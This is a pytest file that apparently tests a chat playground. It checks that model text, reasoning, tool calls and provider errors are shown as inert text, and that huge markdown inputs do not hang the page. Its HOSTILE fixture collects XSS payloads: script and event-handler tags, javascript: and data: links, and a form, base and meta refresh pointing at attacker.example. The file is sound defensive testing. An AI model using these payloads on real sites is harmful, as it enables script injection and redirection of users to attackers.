"""What a model says is text in the page: it is never markup that runs, and none makes the page hang."""

import json
from typing import Any

import pytest

from blaxel_mcp.emulator import Emulator, Upstream
from tests.playground.conftest import BrowserPage, OpenPage, Says
from tests.support.playground import require_browser

require_browser()

pytestmark = pytest.mark.anyio

HOSTILE = """# <script>pwned()</script>
<img src=x onerror="pwned()"> <svg onload=pwned()><style>body{display:none}</style>
<iframe srcdoc="<script>pwned()"></iframe>
[run](javascript:pwned()) [data](data:text/html,<script>pwned()</script>) [vb](vbscript:x) [blob](blob:null/x)
[ok](https://example.com/?a=1&b="><script>pwned()</script>) <a href="javascript:pwned()">x</a>
![tracker](https://tracker.example/pixel.png) ![x](javascript:pwned())
[a](JaVaScRiPt:pwned()) [b](\u0001javascript:pwned()) [c]( javascript:pwned()) https://example.org/"onmouseover="pwned()
<form action="https://attacker.example"><input name=q><button>Send</button></form><base href="https://attacker.example/">
<meta http-equiv="refresh" content="0;url=https://attacker.example"><link rel=stylesheet href=https://attacker.example/x.css>
```html
</code></pre></script><script>pwned()</script>
```
| a | b |
|---|---|
| <script>pwned()</script> | [x](javascript:pwned()) |
> - <object data="javascript:pwned()"></object> \u202egnp.exe
{{constructor.constructor('pwned()')()}} ${pwned()} <!-- --><!--><script>pwned()//-->"""


async def assert_harmless(opened: BrowserPage) -> None:
    article = opened.page.locator("article").first
    tags = "script, img, svg, style, iframe, form, input, object, base, meta, link"
    made = f"{tags}, [onerror], [onload], [onmouseover], [style]"
    assert await article.locator(made).count() == 0
    targets = await article.locator("a").evaluate_all("links => links.map(link => link.protocol + link.rel)")
    assert set(targets) <= {"https:noopener noreferrer nofollow"}
    assert await opened.page.locator("main").is_visible()
    assert (opened.complaints, opened.foreign) == ([], [])


class Refuses(Upstream):
    """The upstream of an emulator: every chat model answers with a provider's error of this message."""

    def __init__(self, emulator: Emulator, message: str) -> None:
        self._body = json.dumps({"error": {"message": message, "type": "invalid_request_error"}}).encode()
        emulator.upstream = self

    async def post(self, _path: str, _body: bytes) -> tuple[int, str, bytes]:
        return 400, "application/json", self._body


async def test_the_message_of_a_providers_error_never_runs(open_page: OpenPage, emulator: Emulator) -> None:
    opened = await open_page()
    Refuses(emulator, "<img src=x onerror=pwned()> <script>pwned()</script> [x](javascript:pwned())")
    answers = await opened.ask("house-chat", prompt="Hello")

    assert "<script>pwned()</script>" in await answers.inner_text()
    assert await answers.get_attribute("data-state") == "failed"
    await assert_harmless(opened)


@pytest.mark.parametrize("message", [{}, {"reasoning_content": HOSTILE}], ids=["the text", "the reasoning"])
async def test_what_a_model_says_is_shown_and_never_runs(
    open_page: OpenPage, emulator: Emulator, message: dict[str, Any]
) -> None:
    opened = await open_page()
    Says(emulator, HOSTILE, **message)
    answers = await opened.ask("house-chat", prompt="Hello")

    assert "<script>pwned()</script>" in await answers.inner_text()
    await assert_harmless(opened)


async def test_a_tool_call_is_shown_and_never_runs(open_page: OpenPage, emulator: Emulator) -> None:
    opened = await open_page()
    function = {"name": "<img src=x onerror=pwned()>", "arguments": '{"a": "</pre><script>pwned()</script>"}'}
    Says(emulator, None, tool_calls=[{"id": "1", "type": "function", "function": function}])
    answers = await opened.ask("house-chat", prompt="Hello")

    text = await answers.inner_text()
    assert "Calls the tool <img src=x onerror=pwned()>" in text
    assert '"a": "</pre><script>pwned()</script>"' in text
    await assert_harmless(opened)


LONG_TEXTS = {
    "two million characters": "word " * 400_000,
    "stars": "*" * 90_000,
    "brackets": "[" * 45_000 + "](" * 20_000,
    "quotes": "> " * 45_000,
    "spaces": "# " + " " * 90_000 + "x",
    "a table of spaces": "|-" + " " * 45_000 + "x\n" + "|-" + " " * 45_000 + "|x",
    "an open fence": "`" * 3 + "x" * 90_000,
    "a long list": "- a\n" * 20_000,
    "underscores": "_a" * 45_000,
    "backquotes": "`a" * 45_000,
}


async def test_no_text_makes_the_page_hang(open_page: OpenPage, emulator: Emulator) -> None:
    opened = await open_page({"limits": {"detach_after_seconds": 0, "max_result_chars": 100_000}})
    for name, text in LONG_TEXTS.items():
        Says(emulator, text)
        answers = await opened.ask("house-chat", prompt="Hello")
        if name == "two million characters":
            await opened.page.get_by_role("button", name="Load the whole answer").click()
            await opened.page.get_by_text("more characters are not shown").wait_for()
        assert await answers.locator(".text").count() == 1, name
    await assert_harmless(opened)
